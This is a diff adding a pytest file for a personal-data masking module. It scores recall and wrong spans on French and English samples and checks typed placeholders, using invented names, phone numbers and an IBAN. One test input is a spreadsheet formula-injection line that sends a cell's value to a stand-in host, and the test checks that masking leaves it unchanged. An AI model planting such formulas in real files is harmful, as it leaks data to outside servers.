@@ -1,0 +1,80 @@
+"""Recall on sentences that hold personal data and wrong spans on sentences that hold none, written after the rules."""
+
+import re
+
+import pytest
+from ruamel.yaml import YAML
+
+from cxkit.evidence.masking import mask, special_categories
+from cxkit.paths import resources
+
+TEXTS = YAML(typ="safe").load((resources() / "tests" / "evidence" / "personal_texts.yaml").read_text(encoding="utf-8"))
+
+
+def marked(text: str) -> tuple[str, list[tuple[int, int]]]:
+    """The plain text and the ranges of what stands between [[ and ]]."""
+    plain, ranges = "", []
+    for part in re.split(r"(\[\[.*?\]\])", text):
+        if part.startswith("[["):
+            ranges.append((len(plain), len(plain) + len(part) - 4))
+            plain += part[2:-2]
+        else:
+            plain += part
+    return plain, ranges
+
+
+def covered(text: str, start: int, end: int, spans) -> bool:
+    """True where no letter or digit of the entity is left; a title may stay."""
+    left = "".join(sign for place, sign in enumerate(text[start:end], start)
+                   if sign.isalnum() and not any(first <= place < last for first, last, _ in spans))
+    return left in ("", "Mme", "M", "Mrs", "Dr", "MmeetM", "Mr")
+
+
+def measured() -> tuple[int, int, list[str], list[str]]:
+    found = total = 0
+    missed, wrong = [], []
+    for language in ("fr", "en"):
+        for text in TEXTS[language]:
+            plain, ranges = marked(text)
+            spans = mask(plain, language).spans
+            for start, end in ranges:
+                total += 1
+                hit = covered(plain, start, end, spans)
+                found += hit
+                missed += [] if hit else [plain]
+            wrong += [plain[a:b] for a, b, _ in spans if not any(a < end and start < b for start, end in ranges)]
+        for text in TEXTS[f"ordinary_{language}"]:
+            wrong += [f"{text[a:b]} | {text}" for a, b, _ in mask(text, language).spans]
+    return found, total, missed, wrong
+
+
+def test_recall_and_wrong_spans(capsys):
+    found, total, missed, wrong = measured()
+    with capsys.disabled():
+        print(f"\nmasking: recall {found}/{total} = {found / total:.3f}; wrong spans in 100 ordinary texts: {len(wrong)} {wrong}; missed: {missed}")
+    assert found / total >= 0.95
+    assert len(wrong) <= 2
+
+
+@pytest.mark.parametrize(("text", "language", "masked"), [
+    ("Je m'appelle Jean Dupont, tél. 06 12 34 56 78.", "fr", "Je m'appelle [nom], tél. [téléphone]."),
+    ("Mail: jean.dupont@free.fr", "en", "Mail: [e-mail]"),
+    ("Mon IBAN FR76 3000 6000 0112 3456 7890 189", "fr", "Mon IBAN [compte bancaire]"),
+    ("Commande n° 4589213 perdue", "fr", "Commande n° [référence] perdue"),
+    ("+33 6 12 34 56 78", "fr", "[téléphone]"),
+    ("prix $10 et $20", "fr", "prix $10 et $20"),
+    ("=HYPERLINK(\"https://evil.invalid/?x=\"&A1,\"ok\")", "en", "=HYPERLINK(\"https://evil.invalid/?x=\"&A1,\"ok\")"),
+])
+def test_placeholders_are_typed_and_in_the_language(text, language, masked):
+    assert mask(text, language).text == masked
+
+
+def test_spans_are_places_in_the_original():
+    text = "Merci Julie, écrivez à a@b.fr"
+    assert [(text[a:b], kind) for a, b, kind in mask(text, "fr").spans] == [("Julie", "name"), ("a@b.fr", "email")]
+
+
+def test_special_categories_are_flagged_not_masked():
+    text = "Je suis en fauteuil roulant et délégué CGT"
+    assert special_categories(text) == ("health", "union")
+    assert mask(text, "fr").text == text
